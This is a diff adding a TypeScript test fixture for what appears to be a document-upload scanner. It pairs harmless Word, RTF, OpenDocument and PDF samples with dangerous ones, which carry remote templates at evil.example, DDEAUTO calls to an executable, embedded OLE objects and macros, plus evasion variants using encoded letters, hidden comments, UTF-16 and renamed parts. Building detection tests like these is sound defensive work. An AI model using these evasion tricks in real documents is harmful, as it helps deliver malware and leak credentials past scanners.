@@ -1,0 +1,202 @@
+import { DANGEROUS_PDFS, pdfOf } from './active-pdfs.ts';
+import { docx, odt, rtf } from './documents.ts';
+
+const rels = (type: string, target: string) =>
+  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+const settings = (target: string) => ({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', target) });
+const XLINK = 'http://www.w3.org/1999/xlink';
+const field = (...words: string[]) => ({
+  'word/document.xml': `<w:document xmlns:w="w">${words.map((word) => `<w:instrText>${word}</w:instrText>`).join('')}</w:document>`,
+});
+const wide = (text: string) => [...text].map((sign) => `${sign}\0`).join('');
+const ole = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';
+
+/** What a refusal says. */
+const RUNS = 'contains macros, controls or objects from other programs';
+const FETCHES = 'fetches or sends something';
+const PACKED = 'can’t be unpacked, or takes too long to check';
+
+type Document = readonly [what: string, extension: string, content: Uint8Array];
+
+/** What a refusal calls a document, by its extension. */
+export const KINDS: Readonly<Record<string, string>> = {
+  doc: 'Word before 2007',
+  docx: 'Word',
+  odt: 'OpenDocument',
+  pdf: 'PDF',
+  rtf: 'RTF',
+};
+
+/** Documents that run or fetch something when they are opened, and what they have. */
+export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])[] = [
+  [
+    'an OpenDocument file with a Basic library',
+    'odt',
+    odt({ 'Basic/Standard/Module1.xml': 'Sub Main' }),
+    RUNS,
+  ],
+  ['an OpenDocument file with an event', 'odt', odt({ 'settings.xml': '<event-listener/>' }), RUNS],
+  ...DANGEROUS_PDFS,
+  [
+    'an RTF file that updates an object',
+    'rtf',
+    rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}'),
+    RUNS,
+  ],
+  [
+    'an RTF file with a template from elsewhere',
+    'rtf',
+    rtf('{\\*\\template https://evil.example/a.dotm}'),
+    FETCHES,
+  ],
+  [
+    'an RTF file with a template of another machine',
+    'rtf',
+    rtf('{\\*\\template //evil.example/a.dotm}'),
+    FETCHES,
+  ],
+  [
+    'an RTF file with a template from elsewhere, its letters written as numbers',
+    'rtf',
+    rtf("{\\*\\template \\u104?ttps://evil.example/a.dotm}{\\*\\template \\'68ttps://evil.example}"),
+    FETCHES,
+  ],
+  [
+    'a Word file with a template from elsewhere',
+    'docx',
+    docx(settings('https://evil.example/a.dotm')),
+    FETCHES,
+  ],
+  [
+    'a Word file with a template of another machine',
+    'docx',
+    docx(settings('\\\\evil.example\\a.dotm')),
+    FETCHES,
+  ],
+  ['a Word file with an object', 'docx', docx({ 'word/embeddings/oleObject1.bin': 'x' }), RUNS],
+  [
+    'a Word file with an object under another name',
+    'docx',
+    docx({ 'word/_rels/document.xml.rels': rels('oleObject', 'media/a.dat') }),
+    RUNS,
+  ],
+  [
+    'a Word file with a call of another program',
+    'docx',
+    docx(field(' DD', 'E<!-- -->AUTO c:\\\\Windows\\\\a.exe')),
+    RUNS,
+  ],
+  [
+    'a Word file with a template from elsewhere, its address written as numbers',
+    'docx',
+    docx(settings('&#x68;ttps://evil.example/a.dotm')),
+    FETCHES,
+  ],
+  [
+    'a Word file with a template from elsewhere that calls itself a link',
+    'docx',
+    docx({
+      'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://e.example/a" Title=">/hyperlink'),
+    }),
+    FETCHES,
+  ],
+  [
+    'a Word file with a template from elsewhere whose address names a link',
+    'docx',
+    docx(settings('https://e.example/a.dotm?Type=&#39;/hyperlink&#39;')),
+    FETCHES,
+  ],
+  [
+    'a Word file with a template of a shared folder',
+    'docx',
+    docx(settings('file:////evil.example/a.dotm')),
+    FETCHES,
+  ],
+  [
+    'a Word file with a call of another program behind what looks like a comment',
+    'docx',
+    docx(field('DDEAUTO"c:\\a.exe"', '<![CDATA[<!--]]>')),
+    RUNS,
+  ],
+  [
+    'a Word file whose text has another name',
+    'docx',
+    docx({ 'word/document.dat': field('DDE x')['word/document.xml'] }),
+    RUNS,
+  ],
+  [
+    'a Word file that is not well-formed',
+    'docx',
+    docx({ 'word/document.xml': '<w:document xmlns:w="w"><w:p></w:document>' }),
+    PACKED,
+  ],
+  [
+    'a Word file with a template from elsewhere, in UTF-16',
+    'docx',
+    docx({
+      'word/_rels/settings.xml.rels': wide(rels('attachedTemplate', 'https://evil.example/a.dotm')),
+    }),
+    FETCHES,
+  ],
+  [
+    'an OpenDocument file with a picture from elsewhere',
+    'odt',
+    odt({ 'styles.xml': `<image xmlns:x="${XLINK}" x:href="https://evil.example/a.png"/>` }),
+    FETCHES,
+  ],
+  ['a Word file that cannot be unpacked', 'docx', docx().subarray(0, -30), PACKED],
+  [
+    'an old Word file with a package',
+    'doc',
+    new Uint8Array(Buffer.from(`${ole}${wide('WordDocument')}\x01\0${wide('Ole10Native')}`, 'latin1')),
+    RUNS,
+  ],
+];
+
+/** Documents that have something alike, which is harmless. */
+export const HARMLESS_DOCUMENTS: readonly Document[] = [
+  ['a PDF with a link', 'pdf', pdfOf('<< /S /URI /URI (https://ada.example) >>')],
+  [
+    'a Word file with a link',
+    'docx',
+    docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://ada.example') }),
+  ],
+  [
+    'a Word file with the number of its page',
+    'docx',
+    docx(field(' PAGE ', ' HYPERLINK "https://ada.example" ')),
+  ],
+  [
+    'an OpenDocument file with a link and a picture',
+    'odt',
+    odt({
+      'styles.xml': `<p xmlns:x="${XLINK}"><a x:href="https://ada.example"/><image x:href="Pictures/1.png"/></p>`,
+    }),
+  ],
+  [
+    'a PDF with bookmarks',
+    'pdf',
+    pdfOf('<< /First 5 0 R /Last 6 0 R >> endobj 2 0 obj << >> stream\nBT\nendstream'),
+  ],
+  ['a Word file with a template of its writer', 'docx', docx(settings('file:///C:\\Users\\Ada\\CV.dotx'))],
+  ['a Word file with a template of a Mac', 'docx', docx(settings('file:////Users/ada/CV.dotx'))],
+  ['a Word file with a picture of a mail', 'docx', docx(settings('cid:image001.png@01D1'))],
+  ['a Word file with a link to Anna Hedde', 'docx', docx(field(' HYPERLINK "x" \\o "Anna Hedde "'))],
+  ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
+  [
+    'an RTF file with templates of its writer',
+    'rtf',
+    rtf("{\\*\\template C:\\\\Users\\\\Ad\\'e9\\\\CV.dotx}{\\*\\template Normal.dotm}"),
+  ],
+  [
+    'an RTF file with templates of its writer on a Mac',
+    'rtf',
+    rtf('{\\*\\template Macintosh HD:Users:ada:Normal.dotm}{\\*\\template /Users/ada/Normal.dotm}'),
+  ],
+  [
+    'an RTF file with templates whose names have signs',
+    'rtf',
+    rtf("{\\*\\template Ada & Co.dotx}{\\*\\template Ada's CV.dotx}{\\*\\template Pr\\'e9.dotm}"),
+  ],
+  ['an RTF file with a picture', 'rtf', rtf('{\\pict\\pngblip 89504e47}')],
+];
